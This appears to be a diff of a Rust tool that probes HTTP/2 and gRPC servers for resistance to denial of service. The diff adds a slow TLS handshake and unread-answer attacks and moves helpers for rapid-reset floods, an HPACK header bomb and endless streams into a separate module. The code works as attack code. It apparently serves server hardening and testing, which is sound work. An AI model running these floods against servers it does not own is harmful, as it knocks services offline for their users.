@@ -10,6 +10,7 @@
 //! ```
 
 mod almost_whole;
+mod sent;
 mod too_long;
 mod unread;
 mod wire;
@@ -20,32 +21,28 @@ use anyhow::{Context as _, Result};
 use tokio::{io::AsyncWriteExt as _, net::tcp::OwnedWriteHalf, select, time::timeout};
 
 pub use almost_whole::AlmostWhole;
+use sent::{MARK, bomb, calls, flood, for_ever, headers, open, unfinished};
 pub use unread::Unread;
 use wire::{
-    ACK, CONTINUATION, DATA, END_HEADERS, GOAWAY, HEADERS, Hearing, LONGEST, PING, PREFACE,
-    PRIORITY, RST_STREAM, SETTINGS, WINDOW_UPDATE, begin, call, connect, frame, literal,
-    remembered,
+    ACK, CONTINUATION, DATA, GOAWAY, HEADERS, Hearing, PING, PREFACE, PRIORITY, RST_STREAM,
+    SETTINGS, WINDOW_UPDATE, begin, call, connect, frame, literal,
 };
 
 /// More than any server needs to make up its mind.
 const BOUND: Duration = Duration::from_mins(1);
-/// Frames of one write.
-const BURST: u32 = 1_000;
-/// Frames of a flood that ends by itself, in [`BURST`]s.
-const FLOOD: u32 = 50 * BURST;
-/// By this PING the end of a flood is known.
-const MARK: &[u8; 8] = b"the end.";
 /// RFC 9113, section 7.
 const ENHANCE_YOUR_CALM: u32 = 11;
 const CANCEL: [u8; 4] = [0, 0, 0, 8];
-/// A message that gRPC allows, and that never comes.
-const PROMISED: u32 = 4 * 1024 * 1024;
+/// The head of a `ClientHello` of 512 bytes (RFC 8446, section 5.1).
+const CLIENT_HELLO: [u8; 5] = [0x16, 3, 1, 2, 0];
 
 /// What a peer does.
 #[derive(Debug, Clone, Copy, PartialEq, Eq, clap::ValueEnum)]
 pub enum Attack {
     /// Connects, and begins to speak without an end to it.
     SlowHandshake,
+    /// Begins to say hello by TLS without an end to it, to a server that speaks it.
+    SlowTlsHandshake,
     /// Connects again and again, and keeps what it gets.
     Connections,
     /// Has begun to speak, and answers nothing from then on.
@@ -70,6 +67,8 @@ pub enum Attack {
     AlmostWholeMessages,
     /// Sends messages that are a byte longer than 4 MiB, 132 MiB in all, unless it is told to stop.
     TooLongMessages,
+    /// Has messages of a MiB answered by as much, and reads a byte of each answer ([`Unread`]).
+    UnreadAnswers,
     /// Asks whether the server is there, tens of thousands of times.
     Pings,
     /// Answers as often what nobody has asked.
@@ -118,6 +117,7 @@ impl Attack {
     pub fn name(self) -> &'static str {
         match self {
             Self::SlowHandshake => "slow handshakes",
+            Self::SlowTlsHandshake => "slow handshakes of TLS",
             Self::Connections => "connections",
             Self::Silence => "silence",
             Self::RapidResets => "rapid resets",
@@ -130,6 +130,7 @@ impl Attack {
             Self::UnfinishedMessages => "unfinished messages",
             Self::AlmostWholeMessages => "messages but for a byte",
             Self::TooLongMessages => "messages above the limit",
+            Self::UnreadAnswers => "answers that nobody reads",
             Self::Pings => "PING",
             Self::PingAnswers => "answers to no PING",
             Self::Settings => "SETTINGS",
@@ -137,6 +138,11 @@ impl Attack {
             Self::Priorities => "PRIORITY",
             Self::RepeatedResets => "resets of one call",
         }
+    }
+
+    /// Whether it is tried on a server that speaks TLS, to which all others say nothing.
+    pub fn is_of_tls(self) -> bool {
+        self == Self::SlowTlsHandshake
     }
 
     /// Does it once, on connections of its own, until the server has said what it makes of it.
@@ -152,11 +158,8 @@ impl Attack {
 
     async fn run(self, server: SocketAddr) -> io::Result<Verdict> {
         match self {
-            Self::SlowHandshake => {
-                let (mut write, hearing) = connect(server).await?;
-                write.write_all(&PREFACE[..10]).await?;
-                Ok(verdict(hearing, false).await)
-            }
+            Self::SlowHandshake => begins(server, &PREFACE[..10]).await,
+            Self::SlowTlsHandshake => begins(server, &CLIENT_HELLO).await,
             Self::Connections => connections(server).await,
             Self::AlmostWholeMessages => {
                 let calls = AlmostWhole::send(server).await?.exhausted();
@@ -169,6 +172,10 @@ impl Attack {
             Self::TooLongMessages => {
                 let calls = too_long::try_on(server).await?;
                 Ok(Verdict::Exhausted { calls })
+            }
+            Self::UnreadAnswers => {
+                Unread::send(server).await?;
+                Ok(Verdict::Endured)
             }
             Self::Silence => {
                 let (_write, hearing) = begin(server).await?;
@@ -231,10 +238,12 @@ impl Attack {
                 flood(write, &frame(RST_STREAM, 0, 1, &CANCEL)).await
             }
             Self::SlowHandshake
+            | Self::SlowTlsHandshake
             | Self::Connections
             | Self::Silence
             | Self::AlmostWholeMessages
-            | Self::TooLongMessages => Ok(()),
+            | Self::TooLongMessages
+            | Self::UnreadAnswers => Ok(()),
         }
     }
 }
@@ -260,6 +269,13 @@ async fn verdict(mut hearing: Hearing, of_streams: bool) -> Verdict {
     }
 }
 
+/// Says so much, and waits for what comes of it.
+async fn begins(server: SocketAddr, head: &[u8]) -> io::Result<Verdict> {
+    let (mut write, hearing) = connect(server).await?;
+    write.write_all(head).await?;
+    Ok(verdict(hearing, false).await)
+}
+
 /// Connects until it is refused, and lets go of what it has then. A connection that is good is told of by SETTINGS.
 async fn connections(server: SocketAddr) -> io::Result<Verdict> {
     let mut kept = Vec::new();
@@ -272,76 +288,4 @@ async fn connections(server: SocketAddr) -> io::Result<Verdict> {
         }
         kept.push((write, hearing));
     }
-}
-
-fn open(stream: u32) -> Vec<u8> {
-    frame(HEADERS, END_HEADERS, stream, &call())
-}
-
-/// A call with more headers, in as many frames as they need.
-fn headers(more: &[u8]) -> Vec<u8> {
-    let block = [&call(), more].concat();
-    let mut out = Vec::new();
-    for (place, piece) in block.chunks(LONGEST).enumerate() {
-        let kind = if place == 0 { HEADERS } else { CONTINUATION };
-        let last = (place + 1) * LONGEST >= block.len();
-        out.extend(frame(kind, if last { END_HEADERS } else { 0 }, 1, piece));
-    }
-    out
-}
-
-/// A header of 4,000 bytes, and ten thousand times the first entry of the dynamic table (RFC 7541, section 6.1).
-fn bomb() -> Vec<u8> {
-    const FIRST: u8 = 0b1000_0000 + 62;
-    let mut out = remembered("x-bomb", &"x".repeat(4_000));
-    out.extend([FIRST; 10_000]);
-    out
-}
-
-/// Calls without an end, each with what follows its headers.
-async fn calls(write: &mut OwnedWriteHalf, then: impl Fn(u32) -> Vec<u8>) -> io::Result<()> {
-    let mut streams = (1..).step_by(2);
-    loop {
-        let burst: Vec<_> = streams
-            .by_ref()
-            .take(BURST as usize)
-            .flat_map(|stream| [open(stream), then(stream)].concat())
-            .collect();
-        write.write_all(&burst).await?;
-    }
-}
-
-async fn unfinished(write: &mut OwnedWriteHalf) -> io::Result<()> {
-    // What a stream may send before the server's SETTINGS are acknowledged, which they never are here.
-    const AT_FIRST: usize = 65_535;
-    let streams = (1..).step_by(2).take(100);
-    let promise = [&[0], PROMISED.to_be_bytes().as_slice()].concat();
-    for stream in streams.clone() {
-        write.write_all(&open(stream)).await?;
-        write.write_all(&frame(DATA, 0, stream, &promise)).await?;
-    }
-    for _ in 0..AT_FIRST / LONGEST {
-        for stream in streams.clone() {
-            write
-                .write_all(&frame(DATA, 0, stream, &[0; LONGEST]))
-                .await?;
-        }
-    }
-    write.write_all(&frame(PING, 0, 0, MARK)).await
-}
-
-async fn for_ever(write: &mut OwnedWriteHalf, frame: &[u8]) -> io::Result<()> {
-    let burst = frame.repeat(100);
-    loop {
-        write.write_all(&burst).await?;
-    }
-}
-
-/// So many of them, and a last word.
-async fn flood(write: &mut OwnedWriteHalf, one: &[u8]) -> io::Result<()> {
-    let burst = one.repeat(BURST as usize);
-    for _ in 0..FLOOD / BURST {
-        write.write_all(&burst).await?;
-    }
-    write.write_all(&frame(PING, 0, 0, MARK)).await
 }
